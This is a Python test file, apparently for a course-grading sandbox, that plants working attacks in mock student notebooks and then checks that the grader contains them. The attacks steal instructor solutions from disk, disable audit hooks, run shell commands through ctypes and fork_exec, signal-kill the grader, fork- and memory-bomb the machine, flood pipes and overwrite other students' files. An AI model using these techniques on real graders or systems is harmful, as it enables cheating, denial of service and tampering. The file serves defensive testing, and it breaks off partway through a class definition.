"""The grading wall, attacked as a determined student would attack it.

Each attacker is one student's notebook: nbgrader's student edition with its stubs left as they are
(`raise NotImplementedError()`), except the answers that carry one attack (helper functions for them
go at the top of the log_gaussian cell); the honest students hand in the solution.  The whole class,
two honest students around ten attackers, is graded once by `instructor/course.py`, run as an
instructor runs it: a subprocess, in its own session, with a timeout.  Expected, for every attack:

- the attacker earns 0 points (the sleeper: at most run_em's, a function it does compute);
- both honest students earn every point, and the class run ends by itself (exit code 0, each
  student's total printed, no grading process stopped);
- nothing outside the course folder changes: no file named with this run's token in /tmp, /var/tmp,
  /dev/shm, /root or the project folder; `git status --porcelain` of the project as before; a file
  the test owns outside the course untouched; the other students' submitted notebooks as
  submitted; no connection reaches the test's listening socket;
- no process an attacker started is alive after the run (`sleep 987`, a process of the run's
  session, or one whose command line or folder is in the run's temporary folder).

Every attack bounds itself, so that without a wall the machine stays usable: the fork bomb stops at
2**11 processes or 10 s, the memory bomb at 30 GB, 10 s or 4 GB left on the machine, floods and
blocks after 45 to 60 s; signals reach only processes of this test's class run, and the network
attack connects only to the test's own listener (it lists the others).  An attack that cannot write
a file reports what it managed as its check's message, "WALL[...]", which the tests quote.

    .venv/bin/python -m pytest tests/test_wall.py -m "slow or not slow" -p no:nbval -o addopts=""

The quick test (not slow) grades four cheap attackers with `sandbox.grade` directly, in a child
process (a grading process an attack can kill without killing pytest).
"""

import contextlib
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
import warnings
from pathlib import Path
from typing import NamedTuple

import nbformat
import pytest

from instructor.submissions import ROOT, bodies, notebook
from helpers.checks import graded_parts

from instructor import course

PYTHON = sys.executable
FULL = sum(points for *_, points in graded_parts())
POINTS = {f"{name}_{part}": points for name, part, points in graded_parts()}
CLASS_SECONDS = 1800          # the class run is stopped after this long (then: it did not finish)
STOPPED_SECONDS = 10          # a grading process stopped this long is recorded, then continued
# an attack's report (not the line of code raising it)
REPORT = re.compile(r'WALL\[(?!")[^\]]*\]?')
# Every change of `git status` counts; WALL_STRICT_GIT=0 counts only the attacks' own (their token,
# data/), for a checkout being edited while the test runs.
STRICT_GIT = os.environ.get("WALL_STRICT_GIT", "1") == "1"
SLEEP987 = re.compile(r"(^|/|\s)sleep\s+987(\s|$)")


# ---- the attacks: code put into a student's notebook ------------------------------------------
# Placeholders, filled in when the class is made: @TOKEN@ (this run's marker), @TAG@ (the attacker's
# id), @PORT@ (the test's listener), @TESTPID@ and @TESTPGID@ (pytest), @PIDNS@ (pytest's pid
# namespace), @ROOT@ (the project folder), @VICTIM@ (a test-owned file outside the course),
# @COURSE@.

LIB = r'''
_WALL = {}


def _wall_fail(text):
    """What the attack managed, as its check's message (it may be unable to write anything)."""
    raise RuntimeError("WALL[" + str(text)[:80] + "]")


def _wall_try(action):
    """'ok', or the name of what stopped the action."""
    try:
        action()
        return "ok"
    except BaseException as err:                       # an attack reports, it never stops itself
        return type(err).__name__


def _wall_status(action):
    """'ok' if the command it runs (os.system, C system()) succeeded, else its status or error."""
    try:
        status = action()
    except BaseException as err:
        return type(err).__name__
    return "ok" if status == 0 else f"status{status}"


def _wall_connect(port, tag):
    """Connect to 127.0.0.1:port and say who we are (only ever the test's own listener)."""
    import sys
    socket = sys.modules.get("socket")
    if socket is None:
        import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(("@TOKEN@ @TAG@ " + tag).encode())
    finally:
        s.close()


def _wall_fork_exec(argv, setsid=False, wait=True):
    """Start argv with _posixsubprocess.fork_exec, the C function under subprocess, loaded before
    any hook (its arguments as Python 3.11 to 3.13 take them; older and newer forms tried after)."""
    import os, sys, time
    ps = sys.modules.get("_posixsubprocess")
    if ps is None:
        import _posixsubprocess as ps
    args = [os.fsencode(a) for a in argv]
    err_r, err_w = os.pipe()
    pid = None
    try:
        head = (args, [args[0]], True, (err_w,), None, None, -1, -1, -1, -1, -1, -1, err_r, err_w,
                True, setsid)
        for tail in [(-1, None, None, None, -1, None, True),  # 3.11.x, 3.12, 3.13: ..., allow_vfork
                     (-1, None, None, None, -1, None),        # without allow_vfork
                     (None, None, None, -1, None)]:           # 3.10: no process_group
            try:
                pid = ps.fork_exec(*head, *tail)
                break
            except TypeError:
                continue
    finally:
        os.close(err_w)
    os.close(err_r)
    if pid is None:
        raise TypeError("no form of fork_exec fits")
    deadline = time.monotonic() + 5
    while wait and time.monotonic() < deadline and not os.waitpid(pid, os.WNOHANG)[0]:
        time.sleep(0.05)
    return pid


def _wall_pipes(write):
    """This process's pipe ends: those it can write to (write=True) or only read from."""
    import os, stat
    found = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        try:
            os.write(fd, b"")
            writable = True
        except OSError:
            writable = False
        if writable == write:
            found.append(fd)
    return found


def _wall_parent():
    """The grading process (our parent); never pid 1 of the test's own pid namespace."""
    import os
    ppid = os.getppid()
    if ppid == 1 and os.readlink("/proc/self/ns/pid") == "@PIDNS@":
        _wall_fail("the parent is init: nothing to signal")
    return ppid
'''

# 1. the instructor's solution and references, read from disk -----------------------------------
STEAL = r'''
def _wall_candidates(how, deadline):
    """Files named nb07_em.ipynb, found as `how` says: "ppid" (the grading process's folder, and its
    parents'), "proc" (every process's folder and command line), "modules" (the files of imported
    modules, sys.path), "walk" (up from here; /work, /tmp, /root, home), "glob" ('/**', 8 s)."""
    import glob, os, pwd, signal, sys, time
    found, seen = [], set()
    skip = {"proc", "sys", "dev", ".git", ".venv", "node_modules", "site-packages", "__pycache__"}

    def below(top, depth=3, limit=5000):
        top = os.path.abspath(top)
        if (top, depth) in seen or time.monotonic() > deadline:
            return
        seen.add((top, depth))
        count = 0
        for root, dirs, files in os.walk(top):
            count += len(dirs) + len(files)
            if "nb07_em.ipynb" in files:
                found.append(os.path.join(root, "nb07_em.ipynb"))
            rel = os.path.relpath(root, top)
            level = 0 if rel == "." else rel.count(os.sep) + 1
            stop = level >= depth or count > limit or time.monotonic() > deadline
            dirs[:] = [] if stop else [d for d in dirs if d not in skip]

    def up(start, depth=2):
        p = os.path.abspath(start)
        for _ in range(16):
            below(p, 1 if p == "/" else depth)
            if os.path.dirname(p) == p:
                break
            p = os.path.dirname(p)

    def parent(pid):
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])

    if how == "ppid":
        pid = os.getppid()
        for _ in range(6):
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
                below(cwd, 4, 20000)
                up(cwd)
                pid = parent(pid)
            except (OSError, ValueError, IndexError):
                break
            if pid <= 1:
                break
    elif how == "proc":
        for name in os.listdir("/proc"):
            if not name.isdigit():
                continue
            try:
                cwd = os.readlink(f"/proc/{name}/cwd")
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    args = f.read().decode(errors="replace").split("\0")
            except OSError:
                continue
            up(cwd)
            for arg in args:
                for part in arg.replace("=", " ").split():
                    path = part if os.path.isabs(part) else os.path.join(cwd, part)
                    if "/" in part and os.path.exists(path):
                        up(path if os.path.isdir(path) else os.path.dirname(path))
    elif how == "modules":
        import helpers                                             # whatever the grader gives us
        paths = [getattr(m, "__file__", None) for m in list(sys.modules.values())]
        paths += [getattr(helpers, "__file__", None), *sys.path]
        for p in dict.fromkeys(p for p in paths if isinstance(p, str) and p):
            up(p if os.path.isdir(p) else os.path.dirname(p))
    elif how == "walk":
        up(os.getcwd(), 3)
        homes = ["/work", "/tmp", "/root", os.path.expanduser("~"), "/home"]
        try:
            homes.append(pwd.getpwuid(os.getuid()).pw_dir)
        except (KeyError, OSError):
            pass
        for top in dict.fromkeys(homes):
            below(top, 6, 50000)
    elif how == "glob":
        class TimeUp(BaseException):                               # glob swallows OSError
            pass

        def alarm(*_):
            raise TimeUp

        old = signal.signal(signal.SIGALRM, alarm)
        signal.setitimer(signal.ITIMER_REAL, max(0.1, min(8.0, deadline - time.monotonic())))
        try:
            for path in glob.iglob("/**/nb07_em.ipynb", recursive=True):
                found.append(path)
                if len(found) > 200:
                    break
        except TimeUp:
            pass
        finally:
            signal.setitimer(signal.ITIMER_REAL, 0)
            signal.signal(signal.SIGALRM, old)
    return found


def _wall_solution(how):
    """The functions of the first notebook found that still holds its solutions, or why none."""
    import ast, json, os, time
    key = "solution " + how
    if key in _WALL:
        return _WALL[key]
    _WALL[key] = "no notebook with solutions found"
    deadline = time.monotonic() + 15
    for way in (["ppid", "proc", "modules", "walk", "glob"] if how == "any" else [how]):
        try:
            paths = _wall_candidates(way, deadline)
        except BaseException as err:
            _WALL[key] = f"{way} failed: {type(err).__name__}"
            continue
        for path in dict.fromkeys(paths):
            try:
                if os.path.getsize(path) > (64 << 20):
                    continue
                with open(path, encoding="utf-8") as f:
                    text = f.read()
                if "### BEGIN SOLUTION" not in text:
                    continue
                space = {}
                exec("import numpy as np\nfrom scipy.linalg import solve_triangular\n", space)
                try:
                    exec("from helpers.validate import check_data, check_params, "
                         "check_responsibilities", space)
                except BaseException:
                    exec("def check_data(x, *a, **k):\n    return np.asarray(x, dtype=float)\n"
                         "def check_params(x, *a, **k):\n"
                         "    return None if x is None else np.asarray(x, dtype=float)\n"
                         "def check_responsibilities(x, r):\n"
                         "    return np.asarray(r, dtype=float)\n", space)
                for cell in json.loads(text)["cells"]:
                    if cell.get("cell_type") == "code":
                        try:
                            tree = ast.parse("".join(cell["source"]))
                            defs = [n for n in tree.body if isinstance(n, ast.FunctionDef)]
                            exec(compile(ast.Module(defs, []), path, "exec"), space)
                        except BaseException:
                            continue
                if "log_gaussian" in space and "run_em" in space:
                    _WALL[key] = space
                    return space
            except BaseException as err:
                _WALL[key] = f"{path}: {type(err).__name__}"
    return _WALL[key]


def _wall_steal(how, name, *args, **kwargs):
    space = _wall_solution(how)
    if isinstance(space, str):
        _wall_fail(f"steal {how}: {space}")
    return space[name](*args, **kwargs)


def _wall_reference(name, *args, **kwargs):
    """The instructor's helpers/checks/<name>.py `reference`, next to a notebook found on disk."""
    import importlib, os, sys, time, types
    key = "reference " + name
    if key not in _WALL:
        _WALL[key] = "no checks with a reference found"
        sys.dont_write_bytecode = True
        deadline = time.monotonic() + 12
        paths = []
        for way in ("ppid", "modules", "proc", "walk"):
            try:
                paths += _wall_candidates(way, deadline)
            except BaseException:
                pass
        for folder in dict.fromkeys(os.path.join(os.path.dirname(p), "helpers", "checks")
                                    for p in paths):
            try:
                with open(os.path.join(folder, name + ".py"), encoding="utf-8") as f:
                    if "def reference(" not in f.read():
                        continue
                package = types.ModuleType("helpers.checks")
                package.__file__, package.__path__ = os.path.join(folder, "__init__.py"), [folder]
                package.__package__ = "helpers.checks"
                for module in [m for m in sys.modules
                               if m == "helpers.checks" or m.startswith("helpers.checks.")]:
                    del sys.modules[module]
                sys.modules["helpers.checks"] = package
                with open(package.__file__, encoding="utf-8") as f:
                    exec(compile(f.read(), package.__file__, "exec"), package.__dict__)
                _WALL[key] = importlib.import_module("helpers.checks." + name).reference
                break
            except BaseException as err:
                _WALL[key] = f"{folder}: {type(err).__name__}"
    found = _WALL[key]
    if isinstance(found, str):
        _wall_fail(f"reference {name}: {found}")
    return found(*args, **kwargs)
'''

ARGS = {"log_gaussian": "x, mu_k, sigma_k", "logsumexp_rows": "a", "ll": "x, pi, mu, sigma",
        "e_step": "x, pi, mu, sigma", "m_step": "x, r, reg_covar",
        "init_params": "x, n_clusters, rng, reg_covar",
        "run_em": "x, pi, mu, sigma, tol, max_iter, reg_covar",
        "simulate": "n_samples, pi, mu, sigma, rng, True"}


def steal(plan):
    """Answers that each run the solution (or the reference) found on disk the way `plan` says."""
    answers = {}
    for name, how in plan.items():
        call = f'_wall_reference("{name}", {ARGS[name]})' if how == "reference" else \
            f'_wall_steal("{how}", "{name}", {ARGS[name]})'
        answers[name] = f"x, z = {call}" if name == "simulate" else f"return {call}"
    return answers


# one way of finding the solution per function: the points show which ways work
STEAL_PLAN = {"log_gaussian": "ppid", "logsumexp_rows": "proc", "ll": "modules", "e_step": "walk",
              "m_step": "reference", "init_params": "reference", "run_em": "glob",
              "simulate": "any"}
QUICK_STEAL_PLAN = {"log_gaussian": "ppid", "logsumexp_rows": "proc", "ll": "modules",
                    "m_step": "reference"}

# 2. the audit hook switched off from inside ---------------------------------------------------
HOOK_OFF = r'''
def _wall_hook_off():
    """Empty the lists an audit hook reads, in every module loaded (sandbox.REFUSED and the
    like)."""
    import sys
    patched = []
    names = ("REFUSED", "REFUSED_MODULES", "WRITES", "REFUSED_EVENTS", "BLOCKED", "FORBIDDEN",
             "DENIED")
    for modname, module in list(sys.modules.items()):
        space = getattr(module, "__dict__", None)
        if not isinstance(space, dict) or modname in ("builtins", "sys", "os", "posix"):
            continue
        for key, value in list(space.items()):
            try:
                listed = isinstance(value, (tuple, set, frozenset)) and "os.system" in value
            except TypeError:
                listed = False
            if key in names or listed:
                space[key] = (0 if isinstance(value, int)
                              else ("-",) if isinstance(value, tuple) else set())
                patched.append(f"{modname}.{key}")
    return patched
'''
HOOK_OFF_ANSWER = r'''
import os, subprocess
patched = _wall_hook_off()
t = "/tmp/@TOKEN@-@TAG@"
r = {"open": _wall_try(lambda: open(t + "-open", "w").write("x")),
     "system": _wall_status(lambda: os.system("touch " + t + "-system")),
     "popen": _wall_try(lambda: subprocess.run(["touch", t + "-popen"], timeout=5)),
     "ctypes": _wall_status(lambda: __import__("ctypes").CDLL(None).system(
         ("touch " + t + "-ctypes").encode())),
     "socket": _wall_try(lambda: _wall_connect(@PORT@, "hook off"))}
_wall_fail(f"hook off ({len(patched)} patched): " + " ".join(f"{k}={v}" for k, v in r.items()))
'''

# 3. modules loaded before any hook -------------------------------------------------------------
FORK_EXEC_ANSWER = r'''
r = _wall_try(lambda: _wall_fork_exec(["/bin/sh", "-c", "touch /tmp/@TOKEN@-@TAG@-fork-exec"]))
_wall_fail("_posixsubprocess.fork_exec: " + r)
'''
CTYPES_ANSWER = r'''
import sys
ct = sys.modules.get("ctypes")
if ct is None:
    _wall_fail("ctypes is not loaded")
r = {"dlopen": _wall_status(
         lambda: ct.CDLL(None).system(b"touch /tmp/@TOKEN@-@TAG@-ctypes-dlopen")),
     "pythonapi": _wall_status(
         lambda: ct.pythonapi.system(b"touch /tmp/@TOKEN@-@TAG@-ctypes-pythonapi")),
     "memmove": _wall_try(lambda: ct.memmove(ct.create_string_buffer(4), b"abcd", 4))}
_wall_fail("ctypes: " + " ".join(f"{k}={v}" for k, v in r.items()))
'''
SOCKET_ANSWER = r'''
import sys
loaded = [m for m in ("socket", "_socket") if m in sys.modules]
r = _wall_try(lambda: _wall_connect(@PORT@, "preloaded socket"))
raw = "absent"
if "_socket" in sys.modules:
    def connect():
        _socket = sys.modules["_socket"]
        s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        s.settimeout(1)
        s.connect(("127.0.0.1", @PORT@))
        s.send(b"@TOKEN@ @TAG@ _socket")
        s.close()
    raw = _wall_try(connect)
_wall_fail(f"socket loaded={','.join(loaded) or 'none'} connect={r} _socket={raw}")
'''

# 4. signals to the grading process -------------------------------------------------------------
SIGNALS = r'''
def _wall_ours(pid):
    """Whether pid is a process of this test's class run (a descendant of pytest, @TESTPID@): even
    with no wall, the attack signals nothing else on the machine."""
    for _ in range(64):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return False
        if pid == @TESTPID@:
            return True
        if pid <= 1:
            return False
    return False


def _wall_signal(pid, sig, how):
    import os, signal
    if how == "kill":
        os.kill(pid, sig)
    else:
        fd = os.pidfd_open(pid)
        try:
            signal.pidfd_send_signal(fd, sig)
        finally:
            os.close(fd)
'''
KILL_ANSWER = r'''
import signal
parent = _wall_parent()
_wall_fail("os.kill(parent, SIGKILL): "
           + _wall_try(lambda: _wall_signal(parent, signal.SIGKILL, "kill")))
'''
PIDFD_ANSWER = r'''
import signal
parent = _wall_parent()
_wall_fail("pidfd_send_signal(parent, SIGKILL): "
           + _wall_try(lambda: _wall_signal(parent, signal.SIGKILL, "pidfd")))
'''
KILLPG_ANSWER = r'''
import os, signal
group = os.getpgid(0)
if group == @TESTPGID@:
    _wall_fail("killpg: our group is pytest's; not sent")
_wall_fail("os.killpg(own group, SIGKILL): " + _wall_try(lambda: os.killpg(group, signal.SIGKILL)))
'''
STOP_PARENT_ANSWER = r'''
import signal
parent = _wall_parent()
r = {how: _wall_try(lambda: _wall_signal(parent, signal.SIGSTOP, how)) for how in ("kill", "pidfd")}
_wall_fail("SIGSTOP to the parent: " + " ".join(f"{k}={v}" for k, v in r.items()))
'''
STOP_ALL_ANSWER = r'''
import os, signal
done, tried, why = 0, 0, ""
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == os.getpid() or not _wall_ours(int(name)):
        continue
    tried += 1
    for how in ("kill", "pidfd"):
        try:
            _wall_signal(int(name), signal.SIGSTOP, how)
            done += 1
            break
        except BaseException as err:
            why = type(err).__name__
_wall_fail(f"SIGSTOP to {done} of {tried} processes of the class run {why}")
'''

# 5. fork bomb, memory bomb ---------------------------------------------------------------------
FORK_BOMB_ANSWER = r'''
import os, time
start, forks, why, child = time.monotonic(), 0, "2**11 processes", False
try:
    for _ in range(11):                               # at most 2**11 = 2048 processes in all
        if time.monotonic() - start > 10:
            why = "10 s"
            break
        if os.fork() == 0:
            child = True                              # a child forks on, from the next generation
        else:
            forks += 1
except BaseException as err:
    why = type(err).__name__
if child:
    try:
        # stays in the process table (the test ends it)
        time.sleep(300)
    finally:
        os._exit(0)
_wall_fail(f"fork bomb: the worker forked {forks} times, stopped by {why}")
'''
MEMORY_BOMB_ANSWER = r'''
import time
start, chunks, why = time.monotonic(), [], "30 GB"

def available():
    with open("/proc/meminfo") as f:
        for line in f:
            if line.startswith("MemAvailable:"):
                return int(line.split()[1]) << 10
    return 0

try:
    while len(chunks) < 30:
        if time.monotonic() - start > 10:
            why = "10 s"
            break
        if available() < (4 << 30):
            why = "the last 4 GB"
            break
        chunks.append(bytearray(1 << 30))             # zero-filled: every page touched
except BaseException as err:
    why = type(err).__name__
got = len(chunks)
chunks.clear()
_wall_fail(f"memory bomb: {got} GB touched, stopped by {why}")
'''

# 6. a correct answer that takes 19 s a call ------------------------------------------------------
SLEEPER_ANSWER = "import time\ntime.sleep(19)\n" + bodies()["run_em"]

# 7. the reply pipe flooded, the grader's messages never read, a huge return value ---------------
FLOOD_ANSWER = r'''
import os, time
fds = _wall_pipes(write=True)
for fd in fds:
    os.set_blocking(fd, False)
junk, sent, start = b"[" * (1 << 16), 0, time.monotonic()
while fds and time.monotonic() - start < 60 and sent < (8 << 30):
    wrote = False
    for fd in list(fds):
        try:
            sent += os.write(fd, junk)
            wrote = True
        except BlockingIOError:
            pass
        except OSError:
            fds.remove(fd)
    if not wrote:
        time.sleep(0.001)
_wall_fail(f"flood: {sent >> 20} MB written to the pipes")
'''
HUGE_ANSWER = r'''
import numpy as np
return np.ones((200 << 20) // 8)                      # 200 MB
'''
BLOCK_ANSWER = r'''
import base64, json, os, time
import numpy as np

def plain(a):
    a = np.ascontiguousarray(a, dtype=float)
    return {"__array__": [a.dtype.str, list(a.shape), base64.b64encode(a.tobytes()).decode()]}

# ask the grader for a reference value 16 MB long, then never read its answer
line = (json.dumps(["stand_in", "log_gaussian",
                    [plain(np.zeros((2_000_000, x.shape[1]))), plain(mu[0]), plain(sigma[0])],
                    {}]) + "\n").encode()
for fd in _wall_pipes(write=True):
    os.set_blocking(fd, False)
    view, deadline = memoryview(line), time.monotonic() + 15
    while view and time.monotonic() < deadline:
        try:
            view = view[os.write(fd, view[: 1 << 16]):]
        except BlockingIOError:
            time.sleep(0.01)
time.sleep(45)
_wall_fail("block: asked for 16 MB and read none of it for 45 s")
'''
DEAF_ANSWER = r'''
import os, threading, time

def watchdog():                                       # bounded: the worker ends itself after 45 s
    time.sleep(45)
    os._exit(0)

threading.Thread(target=watchdog, daemon=True).start()
r, w = os.pipe()
_WALL["deaf"] = w                                     # open: a read of r waits forever
for fd in [0, *_wall_pipes(write=False)]:               # stdin too
    if fd != r:
        os.dup2(r, fd)
_wall_fail("deaf: the worker's input replaced by a pipe nobody writes to")
'''

# 8. processes left behind ---------------------------------------------------------------------
POPEN_ANSWER = r'''
import os, subprocess
r = {"popen": _wall_try(lambda: subprocess.Popen(["setsid", "sleep", "987"])),
     "posix_spawnp": _wall_try(lambda: os.posix_spawnp("setsid", ["setsid", "sleep", "987"],
                                                        dict(os.environ)))}
_wall_fail("left behind: " + " ".join(f"{k}={v}" for k, v in r.items()))
'''
DOUBLE_FORK_ANSWER = r'''
import os, time
r = "ok"
try:
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    os.execvp("sleep", ["sleep", "987"])
                except BaseException:
                    time.sleep(987)                   # no exec: the worker's own code stays
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
except BaseException as err:
    r = type(err).__name__
_wall_fail("double fork with setsid: " + r)
'''
SETSID_FORK_EXEC_ANSWER = r'''
r = _wall_try(lambda: _wall_fork_exec(["/bin/sleep", "987"], setsid=True, wait=False))
_wall_fail("fork_exec(sleep 987, setsid): " + r)
'''

# 9. writing anywhere ---------------------------------------------------------------------------
OVERWRITE_ANSWER = r'''
import os
folders = []
pid = os.getppid()
for _ in range(6):                                    # the grading processes' folders
    try:
        folders.append(os.readlink(f"/proc/{pid}/cwd"))
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
folders += [os.getcwd(), "@COURSE@"]
done, tried, why = 0, 0, ""
for top in dict.fromkeys(folders):
    submitted = os.path.join(top, "submitted")
    if not os.path.isdir(submitted):
        continue
    try:
        with open(os.path.join(top, "release", "nb07", "nb07_em.ipynb"), "rb") as f:
            stub = f.read()
    except OSError:
        stub = b"{}"
    for student in sorted(os.listdir(submitted)):
        if student != "@TAG@":
            tried += 1
            try:
                with open(os.path.join(submitted, student, "nb07", "nb07_em.ipynb"), "wb") as f:
                    f.write(stub)
                done += 1
            except BaseException as err:
                why = type(err).__name__
    _wall_try(lambda: open(os.path.join(top, "@TOKEN@-@TAG@-in-course"), "w").write("x"))
    break
_wall_fail(f"overwrote {done} of {tried} other students' notebooks {why}")
'''
REPO_ANSWER = r'''
import os

def same_bytes():                                     # a write that changes nothing but the time
    with open("@ROOT@/data/gmm_true.json", "r+b") as f:
        data = f.read()
        f.seek(0)
        f.write(data)

r = {"new": _wall_try(lambda: open("@ROOT@/@TOKEN@-@TAG@-repo", "w").write("x")),
     "rewrite": _wall_try(same_bytes),
     "build": _wall_try(lambda: open("@ROOT@/build/@TOKEN@-@TAG@-build", "w").write("x"))}
_wall_fail("project folder: " + " ".join(f"{k}={v}" for k, v in r.items()))
'''
TMP_ANSWER = r'''
import os, tempfile
t, v = "/tmp/@TOKEN@-@TAG@", "@VICTIM@"
r = {"open": _wall_try(lambda: open(t + "-open", "w").write("x")),
     "os.open": _wall_try(lambda: os.close(os.open(t + "-os-open", os.O_CREAT | os.O_WRONLY))),
     "mkstemp": _wall_try(lambda: tempfile.mkstemp(prefix="@TOKEN@-@TAG@-mkstemp", dir="/tmp")),
     "mkfifo": _wall_try(lambda: os.mkfifo(t + "-fifo")),
     "mkdir": _wall_try(lambda: os.mkdir(t + "-dir")),
     "symlink": _wall_try(lambda: os.symlink("/etc/hostname", t + "-link")),
     "shm": _wall_try(lambda: open("/dev/shm/@TOKEN@-@TAG@-shm", "w").write("x")),
     "vartmp": _wall_try(lambda: open("/var/tmp/@TOKEN@-@TAG@-vartmp", "w").write("x")),
     "append": _wall_try(lambda: open(v, "a").write("@TOKEN@")),
     "setxattr": _wall_try(lambda: os.setxattr(v, "user.wall", b"@TOKEN@")),
     "utime": _wall_try(lambda: os.utime(v, (0, 0))),
     "chmod": _wall_try(lambda: os.chmod(v, 0o777))}
ok = [k for k, v in r.items() if v == "ok"]
_wall_fail(f"{len(ok)} of {len(r)} writes: {' '.join(ok)}")
'''

# 10. network -----------------------------------------------------------------------------------
NETWORK_ANSWER = r'''
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        with open(table) as f:
            for line in list(f)[1:]:
                fields = line.split()
                if fields[3] == "0A":                 # listening
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    except (OSError, IndexError, ValueError):
        pass
# It connects only to the test's own listener: the others may belong to anyone.
r = _wall_try(lambda: _wall_connect(@PORT@, "network"))
_wall_fail(f"saw {len(ports)} listening ports; connect to the test's: {r}")
'''


class Attack(NamedTuple):
    number: int
    what: str
    answers: dict
    helpers: str = ""
    allowed: int = 0                          # points it may keep: those of what it computes itself


ATTACKS = {
    "b01_steal_solution": Attack(1, "reads the instructor's solution or reference from disk and "
                                    "runs it (one way per function: "
                                    + ", ".join(f"{f}={h}" for f, h in STEAL_PLAN.items()) + ")",
                                 steal(STEAL_PLAN), STEAL),
    "b02_hook_off": Attack(2, "switches the audit hook off from inside (sandbox.REFUSED, "
                              "WRITES...), then writes, os.system, subprocess, ctypes, socket",
                           {"log_gaussian": HOOK_OFF_ANSWER}, HOOK_OFF),
    "b03_preloaded_modules": Attack(3, "modules loaded before any hook: "
                                       "_posixsubprocess.fork_exec, ctypes, socket",
                                    {"log_gaussian": FORK_EXEC_ANSWER,
                                     "logsumexp_rows": CTYPES_ANSWER, "ll": SOCKET_ANSWER}),
    "b05_bombs": Attack(5, "fork bomb (2**11 processes or 10 s), memory bomb (30 GB, 10 s or "
                           "4 GB left)",
                        {"log_gaussian": FORK_BOMB_ANSWER, "logsumexp_rows": MEMORY_BOMB_ANSWER}),
    "b06_sleeper": Attack(6, "a correct run_em that sleeps 19 s on every call",
                          {"run_em": SLEEPER_ANSWER}, allowed=POINTS["run_em_correctness"]),
    "b07_flood_pipe": Attack(7, "floods the reply pipe for 60 s, returns 200 MB, asks for 16 MB "
                                "and never reads it, replaces its input by a dead pipe",
                             {"log_gaussian": FLOOD_ANSWER, "logsumexp_rows": HUGE_ANSWER,
                              "e_step": BLOCK_ANSWER, "m_step": DEAF_ANSWER}),
    "b08_leftover_processes": Attack(8, "leaves processes behind: setsid sleep 987 (Popen, "
                                        "posix_spawnp), double fork with setsid, fork_exec with "
                                        "setsid",
                                     {"log_gaussian": POPEN_ANSWER,
                                      "logsumexp_rows": DOUBLE_FORK_ANSWER,
                                      "ll": SETSID_FORK_EXEC_ANSWER}),
    "b09_write_anywhere": Attack(9, "writes over the other students' submitted notebooks, into "
                                    "the project folder, /tmp, /var/tmp, /dev/shm; mkfifo, "
                                    "setxattr, utime, chmod",
                                 {"log_gaussian": OVERWRITE_ANSWER, "logsumexp_rows": REPO_ANSWER,
                                  "ll": TMP_ANSWER}),
    "b10_network": Attack(10, "connects to 127.0.0.1 (the test's listener; lists every "
                              "listening port)",
                          {"log_gaussian": NETWORK_ANSWER}),
    # last of the attackers: if it kills or stops the grading process, the others have been graded
    "y04_signals": Attack(4, "signals the grading process: os.kill and pidfd_send_signal SIGKILL "
                             "to the parent, killpg of its own group, SIGSTOP to the parent and "
                             "to every process of the run",
                          {"log_gaussian": KILL_ANSWER, "logsumexp_rows": PIDFD_ANSWER,
                           "ll": KILLPG_ANSWER, "e_step": STOP_PARENT_ANSWER,
                           "m_step": STOP_ALL_ANSWER}, SIGNALS),
}
HONEST = ("aa_honest", "zz_honest")           # graded first and last


def fill(code, values):
    for key, value in values.items():
        code = code.replace(f"@{key}@", str(value))
    assert not re.findall(r"@[A-Z]+@", code), code
    return code


def attacker(released, attack, values):
    """The attacker's notebook: the release with these answers, the rest left as stubs."""
    answers = {name: fill(body, values) for name, body in attack.answers.items()}
    return notebook(released, answers,
                    {"log_gaussian": fill(LIB + attack.helpers, values) + "\n\n"})


# ---- watching the machine --------------------------------------------------------------------

class Proc(NamedTuple):
    pid: int
    ppid: int
    sid: int
    state: str
    args: str
    cwd: str


def processes():
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/stat") as f:
                rest = f.read().rsplit(")", 1)[1].split()
            with open(f"/proc/{name}/cmdline", "rb") as f:
                args = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
            try:
                cwd = os.readlink(f"/proc/{name}/cwd")
            except OSError:
                cwd = ""
            found.append(Proc(int(name), int(rest[1]), int(rest[3]), rest[0], args, cwd))
        except (OSError, ValueError, IndexError):
            continue
    return found


def run_tree(root_pid, table=None):
    """The processes of a run started in its own session by root_pid: its session, its
    descendants."""
    table = table if table is not None else processes()
    children = {}
    for p in table:
        children.setdefault(p.ppid, []).append(p)
    found, todo = {p.pid: p for p in table if p.sid == root_pid}, [root_pid]
    while todo:
        for child in children.get(todo.pop(), []):
            if child.pid not in found:
                found[child.pid] = child
                todo.append(child.pid)
    return list(found.values())


def our_leftovers(root_pid, folder, before):
    """Processes alive now that the run started: its session, `sleep 987`, or in its folder."""
    mine = {os.getpid(), os.getppid()}
    return [p for p in processes() if p.pid not in mine and p.pid not in before and (
        p.sid == root_pid or SLEEP987.search(p.args) or str(folder) in p.args
        or str(folder) in p.cwd)]


def end(procs):
    for p in procs:
        try:
            os.kill(p.pid, signal.SIGKILL)
        except OSError:
            pass


class Listener:
    """A TCP socket on 127.0.0.1 that records what connects to it."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
